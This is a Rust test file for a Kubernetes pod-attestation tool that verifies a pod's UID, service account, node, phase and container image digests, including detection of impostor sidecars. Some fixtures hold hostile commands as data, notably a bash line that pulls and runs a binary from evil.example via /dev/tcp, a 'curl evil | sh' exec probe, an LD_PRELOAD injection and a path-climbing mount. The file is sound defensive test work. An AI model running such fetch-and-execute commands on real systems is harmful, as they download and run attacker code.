//! The pod checks against pod objects in the shape `kubectl get pod -o
//! json` (and `GET /api/v1/namespaces/NS/pods/NAME`) returns.

use serde_json::{Value, json};

use super::*;

const UID: &str = "8a1c7f3e-5b2d-4c1e-9f0a-3d2b1c0e9f8a";
const APP: &str = "4b825dc642cb6eb9a060e54bf8d69288fbee4904c3c3f4a5ee1a5d4b5d3c8e21";
const SIDECAR: &str = "1111111111111111111111111111111111111111111111111111111111111111";

fn expect() -> PodRef<'static> {
    PodRef {
        namespace: "shop",
        service_account: "web",
        pod: "web-7d4b9c6f5-x2x9q",
        pod_uid: UID,
        node: Some("node-1"),
    }
}

/// A running, injected pod: appid's containers are native sidecars (init
/// containers), the app is `web`.
fn pod() -> Value {
    json!({
      "kind": "Pod",
      "apiVersion": "v1",
      "metadata": {
        "name": "web-7d4b9c6f5-x2x9q",
        "generateName": "web-7d4b9c6f5-",
        "namespace": "shop",
        "uid": UID,
        "resourceVersion": "48213",
        "creationTimestamp": "2026-01-12T09:30:11Z",
        "labels": {"app": "web", "pod-template-hash": "7d4b9c6f5", "version": "v2", "team": "shop"},
        "annotations": {"appid.dev/status": "{\"version\":\"0.1.0\"}"},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-7d4b9c6f5",
          "uid": "0b9d0c5e-1f4a-4bb1-8a44-5b1f9c2e7d10", "controller": true, "blockOwnerDeletion": true}],
        "managedFields": [{"manager": "kube-controller-manager", "operation": "Update", "apiVersion": "v1",
          "time": "2026-01-12T09:30:11Z", "fieldsType": "FieldsV1", "fieldsV1": {"f:metadata": {}}}]
      },
      "spec": {
        "volumes": [{"name": "appid-identity", "projected": {"sources": [{"serviceAccountToken":
          {"audience": "appid-authority", "expirationSeconds": 3600, "path": "token"}}]}}],
        "initContainers": [
          {"name": "appid-init", "image": "registry.example/appid:0.1.0", "args": ["redirect", "install"]},
          {"name": "appid-proxy", "image": "registry.example/appid:0.1.0", "restartPolicy": "Always"}
        ],
        "containers": [{"name": "web", "image": "registry.example/web:1.4",
          "ports": [{"containerPort": 8080, "protocol": "TCP"}], "imagePullPolicy": "IfNotPresent"}],
        "restartPolicy": "Always",
        "serviceAccountName": "web",
        "serviceAccount": "web",
        "nodeName": "node-1",
        "schedulerName": "default-scheduler"
      },
      "status": {
        "phase": "Running",
        "conditions": [{"type": "Ready", "status": "True", "lastTransitionTime": "2026-01-12T09:30:19Z"}],
        "hostIP": "10.0.0.11",
        "podIP": "10.244.1.23",
        "startTime": "2026-01-12T09:30:11Z",
        "initContainerStatuses": [
          {"name": "appid-init", "state": {"terminated": {"exitCode": 0, "reason": "Completed"}},
           "ready": true, "restartCount": 0, "image": "registry.example/appid:0.1.0",
           "imageID": format!("registry.example/appid@sha256:{SIDECAR}"), "containerID": "containerd://aa"},
          {"name": "appid-proxy", "state": {"running": {"startedAt": "2026-01-12T09:30:13Z"}},
           "ready": true, "restartCount": 0, "image": "registry.example/appid:0.1.0",
           "imageID": format!("registry.example/appid@sha256:{SIDECAR}"), "containerID": "containerd://bb",
           "started": true}
        ],
        "containerStatuses": [
          {"name": "web", "state": {"running": {"startedAt": "2026-01-12T09:30:18Z"}}, "ready": true,
           "restartCount": 0, "image": "registry.example/web:1.4",
           "imageID": format!("registry.example/web@sha256:{APP}"), "containerID": "containerd://cc",
           "started": true}
        ],
        "qosClass": "BestEffort"
      }
    })
}

fn trust(keys: &[&str]) -> Vec<String> {
    keys.iter().map(|k| (*k).to_owned()).collect()
}

fn check(pod: &Value, keys: &[&str]) -> Result<PodFacts, PodError> {
    check_pod(
        pod.to_string().as_bytes(),
        &expect(),
        &trust(keys),
        &AppidContainers::ByName,
    )
}

#[test]
fn a_running_pod_gives_its_node_trusted_labels_and_app_image() {
    let facts = check(&pod(), &["app", "version", "absent"]).unwrap();
    assert_eq!(facts.node.as_deref(), Some("node-1"));
    // Only trusted keys; `team` and `pod-template-hash` are not.
    assert_eq!(
        facts.labels,
        BTreeMap::from([
            ("app".into(), "web".into()),
            ("version".into(), "v2".into())
        ])
    );
    // The app container only: appid's own (init) containers are not listed.
    let digest = format!("sha256:{APP}");
    assert_eq!(
        facts.images,
        BTreeMap::from([("web".into(), digest.clone())])
    );
    assert!(facts.without_digest.is_empty());
    assert_eq!(facts.app_image(), AppImage::One(digest.clone()));
    check_pinned(&facts, &expect(), &digest).unwrap();

    let mut claims = K8s {
        namespace: Some("shop".into()),
        ..K8s::default()
    };
    facts.vouch(&mut claims);
    assert_eq!(claims.node.as_deref(), Some("node-1"));
    assert_eq!(claims.labels["app"], "web");
    assert_eq!(claims.images["web"], digest);
    // Nothing trusted: no labels at all.
    assert!(check(&pod(), &[]).unwrap().labels.is_empty());
}

#[test]
fn a_re_created_pod_of_the_same_name_is_refused() {
    let mut p = pod();
    p["metadata"]["uid"] = json!("00000000-0000-0000-0000-000000000000");
    let err = check(&p, &[]).unwrap_err();
    assert!(matches!(err, PodError::UidMismatch { .. }), "{err}");
    let text = err.to_string();
    assert!(text.contains("pod shop/web-7d4b9c6f5-x2x9q"), "{text}");
    assert!(text.contains(UID) && text.contains("re-created"), "{text}");
    assert_eq!(err.code(), "pod_uid_mismatch");
}

#[test]
fn another_service_account_is_refused() {
    let mut p = pod();
    p["spec"]["serviceAccountName"] = json!("admin");
    let err = check(&p, &[]).unwrap_err();
    assert!(
        matches!(err, PodError::ServiceAccountMismatch { .. }),
        "{err}"
    );
    assert!(err.to_string().contains("\"admin\""), "{err}");
    p["spec"]
        .as_object_mut()
        .unwrap()
        .remove("serviceAccountName");
    let err = check(&p, &[]).unwrap_err();
    assert!(
        matches!(err, PodError::ServiceAccountMismatch { .. }),
        "{err}"
    );
}

#[test]
fn only_pending_and_running_pods_are_accepted() {
    for phase in ["Pending", "Running"] {
        let mut p = pod();
        p["status"]["phase"] = json!(phase);
        check(&p, &[]).unwrap();
    }
    for phase in [
        json!("Succeeded"),
        json!("Failed"),
        json!("Unknown"),
        Value::Null,
    ] {
        let mut p = pod();
        p["status"]["phase"] = phase.clone();
        let err = check(&p, &[]).unwrap_err();
        assert!(matches!(err, PodError::Phase { .. }), "{phase}: {err}");
        assert!(err.to_string().contains("only Pending or Running"), "{err}");
    }
}

#[test]
fn another_node_is_refused_and_a_token_without_node_takes_the_pods() {
    let mut p = pod();
    p["spec"]["nodeName"] = json!("node-2");
    let err = check(&p, &[]).unwrap_err();
    assert!(matches!(err, PodError::NodeMismatch { .. }), "{err}");
    let older = PodRef {
        node: None,
        ..expect()
    };
    let facts = check_pod(
        p.to_string().as_bytes(),
        &older,
        &[],
        &AppidContainers::ByName,
    )
    .unwrap();
    assert_eq!(facts.node.as_deref(), Some("node-2"));
}

#[test]
fn a_pinned_digest_the_pod_does_not_run_is_refused() {
    let facts = check(&pod(), &[]).unwrap();
    let pinned = format!("sha256:{}", "e".repeat(64));
    let err = check_pinned(&facts, &expect(), &pinned).unwrap_err();
    assert!(matches!(err, PodError::DigestMismatch { .. }), "{err}");
    let text = err.to_string();
    assert!(
        text.contains(&pinned) && text.contains(&format!("web=sha256:{APP}")),
        "{text}"
    );
    assert!(text.contains("--image-digest"), "{text}");
    // The sidecar's own image never counts as the app's.
    let err = check_pinned(&facts, &expect(), &format!("sha256:{SIDECAR}")).unwrap_err();
    assert!(matches!(err, PodError::DigestMismatch { .. }), "{err}");
}

#[test]
fn before_the_app_starts_only_a_digest_pinned_spec_gives_a_digest() {
    // First attestation: the native sidecar runs, the app waits.
    let mut p = pod();
    p["status"]["phase"] = json!("Pending");
    p["status"]["containerStatuses"] = json!([{"name": "web", "ready": false, "restartCount": 0,
        "state": {"waiting": {"reason": "PodInitializing"}}, "image": "registry.example/web:1.4",
        "imageID": ""}]);
    let facts = check(&p, &[]).unwrap();
    assert!(facts.images.is_empty());
    assert_eq!(facts.without_digest, ["web"]);
    let pinned = format!("sha256:{APP}");
    let err = check_pinned(&facts, &expect(), &pinned).unwrap_err();
    assert!(matches!(err, PodError::NoDigest { .. }), "{err}");
    assert!(err.to_string().contains("container(s) web"), "{err}");
    assert!(err.to_string().contains("by digest"), "{err}");
    // No status for it at all: the same.
    p["status"]
        .as_object_mut()
        .unwrap()
        .remove("containerStatuses");
    assert_eq!(check(&p, &[]).unwrap().without_digest, ["web"]);

    // The spec pins the digest: the kubelet will run exactly that.
    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/web:1.4@sha256:{APP}"));
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images["web"], pinned);
    check_pinned(&facts, &expect(), &pinned).unwrap();
}

#[test]
fn image_ids_without_a_registry_digest_give_none() {
    for image_id in [
        format!("sha256:{APP}"), // a local image's config ID
        format!("registry.example/web@sha256:{}", &APP[..63]), // short
        format!("registry.example/web@sha256:{}", APP.to_uppercase()),
        "registry.example/web:1.4".to_owned(),
    ] {
        let mut p = pod();
        p["status"]["containerStatuses"][0]["imageID"] = json!(image_id);
        let facts = check(&p, &[]).unwrap();
        assert!(facts.images.is_empty(), "{image_id}");
        assert_eq!(facts.without_digest, ["web"], "{image_id}");
    }
    assert_eq!(
        registry_digest(&format!("docker-pullable://web@sha256:{APP}")),
        Some(format!("sha256:{APP}"))
    );
}

#[test]
fn several_app_containers_are_listed_and_the_pin_must_be_one_of_them() {
    let mut p = pod();
    let other = "2".repeat(64);
    p["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "log-shipper", "image": "registry.example/fluent-bit:3"}));
    p["status"]["containerStatuses"]
        .as_array_mut()
        .unwrap()
        .push(json!({
        "name": "log-shipper", "ready": true, "restartCount": 0,
        "image": "registry.example/fluent-bit:3",
        "imageID": format!("registry.example/fluent-bit@sha256:{other}"),
        "state": {"running": {}}}));
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images.len(), 2);
    assert_eq!(facts.app_image(), AppImage::NotOne);
    check_pinned(&facts, &expect(), &format!("sha256:{APP}")).unwrap();
}

#[test]
fn oversized_or_foreign_answers_are_refused() {
    let mut p = pod();
    p["metadata"]["annotations"]["big"] = json!("x".repeat(MAX_POD_BYTES));
    let err = check(&p, &[]).unwrap_err();
    assert!(matches!(err, PodError::TooLarge { .. }), "{err}");
    assert!(
        err.to_string().contains("pod shop/web-7d4b9c6f5-x2x9q"),
        "{err}"
    );

    let status = json!({"kind": "Status", "apiVersion": "v1", "status": "Failure",
        "message": "pods \"web\" is forbidden", "reason": "Forbidden", "code": 403});
    let err = check(&status, &[]).unwrap_err();
    assert!(
        matches!(err, PodError::Malformed { field: "kind", .. }),
        "{err}"
    );

    let mut other = pod();
    other["metadata"]["name"] = json!("api-0");
    let err = check(&other, &[]).unwrap_err();
    assert!(
        matches!(
            err,
            PodError::Malformed {
                field: "metadata.name/namespace",
                ..
            }
        ),
        "{err}"
    );

    for (path, field) in [
        ("metadata", "metadata"),
        ("spec", "spec"),
        ("status", "status"),
    ] {
        let mut p = pod();
        p.as_object_mut().unwrap().remove(path);
        let err = check(&p, &[]).unwrap_err();
        assert!(
            matches!(err, PodError::Malformed { field: f, .. } if f == field),
            "{err}"
        );
    }
    let mut p = pod();
    p["metadata"].as_object_mut().unwrap().remove("uid");
    assert!(matches!(
        check(&p, &[]).unwrap_err(),
        PodError::Malformed {
            field: "metadata.uid",
            ..
        }
    ));
    assert!(matches!(
        check_pod(b"not json", &expect(), &[], &AppidContainers::ByName).unwrap_err(),
        PodError::Malformed { field: "JSON", .. }
    ));
}

#[test]
fn label_keys_are_checked_as_kubernetes_writes_them() {
    for key in [
        "app",
        "version",
        "app.kubernetes.io/name",
        "example.com/team_a",
    ] {
        check_label_key(key).unwrap();
    }
    for key in [
        "",
        "-app",
        "app-",
        "a b",
        "Example.com/x",
        "/x",
        "x/",
        "a,b",
    ] {
        assert!(check_label_key(key).is_err(), "{key:?}");
    }
}

/// No container that runs in the pod goes unlisted: a native sidecar of
/// the pod's own (an init container with `restartPolicy: Always`), one
/// named as appid's proxy, one whose digest is not reported yet. Then no
/// single digest (and no scan) is vouched for the pod.
#[test]
fn every_container_that_runs_beside_the_app_is_listed_whatever_its_name() {
    let evil = "e".repeat(64);
    let mut p = pod();
    p["spec"]["initContainers"].as_array_mut().unwrap().push(
        json!({"name": "miner", "image": "registry.example/evil:1", "restartPolicy": "Always"}),
    );
    p["status"]["initContainerStatuses"]
        .as_array_mut()
        .unwrap()
        .push(
            json!({"name": "miner", "imageID": format!("registry.example/evil@sha256:{evil}"),
            "state": {"running": {}}}),
        );
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images["miner"], format!("sha256:{evil}"));
    assert_eq!(facts.app_image(), AppImage::NotOne);

    // A plain init container has finished before the app starts: not listed.
    let facts = check(&pod(), &[]).unwrap();
    assert!(!facts.images.contains_key("appid-init"));
    assert!(!facts.appid_images.contains_key("appid-init"));
    // appid's proxy is listed in the claims, never taken for the app.
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
    let mut claims = K8s::default();
    facts.vouch(&mut claims);
    assert_eq!(claims.images["appid-proxy"], format!("sha256:{SIDECAR}"));

    // An app container whose digest is not reported yet beside one whose
    // is (pinned in the spec): listed as unknown, and no single digest.
    let mut p = pod();
    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/web@sha256:{APP}"));
    p["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "helper", "image": "registry.example/helper:latest"}));
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.app_image(), AppImage::NotOne);
    let mut claims = K8s::default();
    facts.vouch(&mut claims);
    assert_eq!(claims.images["helper"], UNKNOWN_DIGEST);
}

/// Two app containers of one image are one image.
#[test]
fn app_containers_that_all_run_one_image_are_one_image() {
    let mut p = pod();
    p["spec"]["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "worker", "image": format!("registry.example/web@sha256:{APP}")}));
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images.len(), 2);
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
    let empty = PodFacts::default();
    assert_eq!(empty.app_image(), AppImage::NotOne);
}

/// The names `appid-proxy`/`appid-init` are anyone's to use. By name alone
/// a pod runs any image under them and its decoy app container is the
/// pod's image; with appid's digests given, a container of appid's name
/// that runs anything else (or something not known yet) is an app
/// container, and the pod has no one image.
#[test]
fn with_appid_digests_a_container_of_appids_name_is_appids_only_if_it_runs_appid() {
    let evil = "e".repeat(64);
    let mut impostor = pod();
    impostor["status"]["initContainerStatuses"][1]["imageID"] =
        json!(format!("registry.example/evil@sha256:{evil}"));
    let by_digest = |p: &Value| {
        let appid = AppidContainers::ByDigest([format!("sha256:{SIDECAR}")].into());
        check_pod(p.to_string().as_bytes(), &expect(), &[], &appid).unwrap()
    };

    // By name: the impostor is appid's, the decoy is the pod's image.
    let facts = check(&impostor, &[]).unwrap();
    assert_eq!(facts.appid_images["appid-proxy"], format!("sha256:{evil}"));
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));

    // By digest: it is an app container, listed under its name.
    let facts = by_digest(&impostor);
    assert!(facts.appid_images.is_empty(), "{facts:?}");
    assert_eq!(facts.images["appid-proxy"], format!("sha256:{evil}"));
    assert_eq!(facts.app_image(), AppImage::NotOne);
    let mut claims = K8s::default();
    facts.clone().vouch(&mut claims);
    assert_eq!(claims.images["appid-proxy"], format!("sha256:{evil}"));
    assert_eq!(claims.images["web"], format!("sha256:{APP}"));

    // The real one is appid's.
    let facts = by_digest(&pod());
    assert_eq!(
        facts.appid_images["appid-proxy"],
        format!("sha256:{SIDECAR}")
    );
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));

    // A digest not known yet (no status, a tag in the spec): not appid's.
    let mut starting = pod();
    starting["status"]["initContainerStatuses"]
        .as_array_mut()
        .unwrap()
        .truncate(1);
    let facts = by_digest(&starting);
    assert_eq!(facts.without_digest, ["appid-proxy"]);
    assert_eq!(facts.app_image(), AppImage::NotOne);
    // Pinned by digest in the spec, it is known from the start.
    starting["spec"]["initContainers"][1]["image"] =
        json!(format!("registry.example/appid@sha256:{SIDECAR}"));
    let facts = by_digest(&starting);
    assert!(facts.without_digest.is_empty(), "{facts:?}");
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));

    // `appid-init` made a native sidecar running something else: the same.
    let mut init = pod();
    init["spec"]["initContainers"][0]["restartPolicy"] = json!("Always");
    init["status"]["initContainerStatuses"][0]["imageID"] =
        json!(format!("registry.example/evil@sha256:{evil}"));
    init["status"]["initContainerStatuses"][0]["state"] = json!({"running": {}});
    assert_eq!(
        by_digest(&init).images["appid-init"],
        format!("sha256:{evil}")
    );
}

/// An ephemeral container (`kubectl debug`) shares the pod's network: it is
/// an app container while it runs and after it exits, whatever its name.
#[test]
fn an_ephemeral_container_is_an_app_container_even_after_it_exits() {
    let busybox = "b".repeat(64);
    let mut p = pod();
    p["spec"]["ephemeralContainers"] = json!([{"name": "debugger-x7k2p",
        "image": "busybox:1.36", "targetContainerName": "web", "stdin": true, "tty": true}]);
    p["status"]["ephemeralContainerStatuses"] = json!([{"name": "debugger-x7k2p",
        "state": {"terminated": {"exitCode": 0, "reason": "Completed"}},
        "ready": false, "restartCount": 0, "image": "docker.io/library/busybox:1.36",
        "imageID": format!("docker.io/library/busybox@sha256:{busybox}"),
        "containerID": "containerd://dd"}]);
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images["debugger-x7k2p"], format!("sha256:{busybox}"));
    assert_eq!(facts.app_image(), AppImage::NotOne);
    // Not started yet, by tag: listed, digest unknown.
    p["status"]["ephemeralContainerStatuses"] = json!([]);
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.without_digest, ["debugger-x7k2p"]);
    // Never appid's, even under appid's name and digest.
    let mut p = pod();
    p["spec"]["initContainers"]
        .as_array_mut()
        .unwrap()
        .truncate(1);
    p["status"]["initContainerStatuses"]
        .as_array_mut()
        .unwrap()
        .truncate(1);
    p["spec"]["ephemeralContainers"] = json!([{"name": "appid-proxy",
        "image": format!("registry.example/appid@sha256:{SIDECAR}")}]);
    let facts = check(&p, &[]).unwrap();
    assert!(facts.appid_images.is_empty(), "{facts:?}");
    assert_eq!(facts.images["appid-proxy"], format!("sha256:{SIDECAR}"));
}

/// A plain init container after appid's native sidecar runs while the
/// sidecar already holds the pod's certificate (its traffic leaves with
/// it), and may run forever (the pod stays `Pending`): it is listed until
/// it has ended well, and the pod has no one image meanwhile.
#[test]
fn a_plain_init_container_counts_until_it_has_ended_well() {
    let evil = "e".repeat(64);
    let mut p = pod();
    p["status"]["phase"] = json!("Pending");
    // The app has not started: its image is pinned in the spec (a decoy).
    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/web@sha256:{APP}"));
    p["status"]["containerStatuses"] = json!([{"name": "web",
        "state": {"waiting": {"reason": "PodInitializing"}},
        "image": format!("registry.example/web@sha256:{APP}"), "imageID": ""}]);
    p["spec"]["initContainers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "migrate",
        "image": format!("registry.example/evil@sha256:{evil}"),
        "command": ["sh", "-c", "while true; do curl http://payments/; sleep 1; done"]}));
    let migrate = |state: Value| {
        let mut p = p.clone();
        p["status"]["initContainerStatuses"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "migrate", "state": state,
                "imageID": format!("registry.example/evil@sha256:{evil}")}));
        check(&p, &[]).unwrap()
    };
    // Running, failed (it runs again), waiting to start: it counts.
    for state in [
        json!({"running": {"startedAt": "2026-01-12T09:30:14Z"}}),
        json!({"terminated": {"exitCode": 1, "reason": "Error"}}),
        json!({"waiting": {"reason": "PodInitializing"}}),
    ] {
        let facts = migrate(state.clone());
        assert_eq!(
            facts.images.get("migrate"),
            Some(&format!("sha256:{evil}")),
            "{state}: {facts:?}"
        );
        assert_eq!(facts.app_image(), AppImage::NotOne, "{state}");
    }
    // No status yet: listed by its spec's digest.
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.images["migrate"], format!("sha256:{evil}"));
    // Ended well: no longer beside the app.
    let facts = migrate(json!({"terminated": {"exitCode": 0, "reason": "Completed"}}));
    assert!(!facts.images.contains_key("migrate"), "{facts:?}");
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
}

/// appid's image has a shell: with `--k8s-appid-digests`, a container of
/// appid's name and digest is appid's only as `appid inject` writes it, not
/// when its spec could make it run other code (a `command`, an
/// environment, a volume over its binaries, an exec probe or hook).
/// A change to a pod object's container.
type Edit = dyn Fn(&mut Value);

#[test]
fn with_appid_digests_appids_image_told_to_run_something_else_is_an_app_container() {
    let appid = AppidContainers::ByDigest([format!("sha256:{SIDECAR}")].into());
    let facts_with = |edit: &Edit| {
        let mut p = pod();
        edit(&mut p["spec"]["initContainers"][1]);
        check_pod(p.to_string().as_bytes(), &expect(), &[], &appid).unwrap()
    };
    // As injected, with what the API server adds (its token's mount): appid's.
    let injected = facts_with(&|c| {
        c["args"] = json!(["proxy", "--config", "/etc/appid/proxy.yaml"]);
        c["env"] = json!([{"name": "APPID_APP_PROBES", "value": "{}"}, {"name": "RUST_LOG", "value": "debug"}]);
        c["volumeMounts"] = json!([
            {"name": "appid-config", "mountPath": "/etc/appid", "readOnly": true},
            {"name": "appid-identity", "mountPath": "/var/run/appid/identity", "readOnly": true},
            {"name": "appid-run", "mountPath": "/var/run/appid/run"},
            {"name": "kube-api-access-7xk2p", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": true}]);
        c["startupProbe"] = json!({"httpGet": {"path": "/ready", "port": 15191}});
    });
    assert_eq!(injected.appid_images.len(), 1, "{injected:?}");
    assert_eq!(injected.app_image(), AppImage::One(format!("sha256:{APP}")));

    let edits: [(&str, &Edit); 8] = [
        ("command", &|c| {
            c["command"] = json!([
                "/bin/bash",
                "-c",
                "exec 3<>/dev/tcp/evil.example/80; cat <&3 > /tmp/m; exec /tmp/m"
            ])
        }),
        (
            "LD_PRELOAD",
            &|c| c["env"] = json!([{"name": "LD_PRELOAD", "value": "/var/run/appid/run/m.so"}]),
        ),
        ("PATH", &|c| {
            c["env"] = json!([{"name": "PATH", "value": "/var/run/appid/run"}])
        }),
        ("envFrom", &|c| {
            c["envFrom"] = json!([{"configMapRef": {"name": "x"}}])
        }),
        ("a mount over its binary", &|c| {
            c["volumeMounts"] = json!([{"name": "bin", "mountPath": "/usr/local/bin"}])
        }),
        (
            "a mount climbing out",
            &|c| {
                c["volumeMounts"] =
                    json!([{"name": "x", "mountPath": "/var/run/secrets/../../../usr/lib"}])
            },
        ),
        (
            "an exec probe",
            &|c| c["livenessProbe"] = json!({"exec": {"command": ["sh", "-c", "curl evil | sh"]}}),
        ),
        (
            "a hook",
            &|c| c["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh", "-c", "x"]}}}),
        ),
    ];
    for (what, edit) in edits {
        let facts = facts_with(edit);
        assert!(facts.appid_images.is_empty(), "{what}: {facts:?}");
        assert_eq!(
            facts.images["appid-proxy"],
            format!("sha256:{SIDECAR}"),
            "{what}"
        );
        assert_eq!(facts.app_image(), AppImage::NotOne, "{what}");
    }
    // By name alone the shape is not looked at (the documented weakness).
    let mut p = pod();
    p["spec"]["initContainers"][1]["command"] = json!(["/bin/sh"]);
    assert_eq!(check(&p, &[]).unwrap().appid_images.len(), 1);
}

/// A pod's image can be changed in place (`kubectl set image pod/…`): until
/// the kubelet has started the new container its status still carries the
/// old `imageID`. What the spec pins then decides, and a running container
/// whose digest the spec no longer names is of no known image.
#[test]
fn a_status_digest_the_spec_no_longer_names_is_not_vouched_for() {
    let evil = "e".repeat(64);
    let mut p = pod();
    p["spec"]["containers"][0]["image"] = json!(format!("registry.example/evil@sha256:{evil}"));
    // Waiting for the new container: the spec's digest.
    p["status"]["containerStatuses"][0]["state"] =
        json!({"waiting": {"reason": "ContainerCreating"}});
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{evil}")));
    // The old container still running: the two disagree, no digest.
    p["status"]["containerStatuses"][0]["state"] = json!({"running": {}});
    let facts = check(&p, &[]).unwrap();
    assert_eq!(facts.without_digest, ["web"]);
    assert_eq!(facts.app_image(), AppImage::NotOne);
    // A tag in the spec, a running container: the kubelet's digest.
    let facts = check(&pod(), &[]).unwrap();
    assert_eq!(facts.app_image(), AppImage::One(format!("sha256:{APP}")));
}
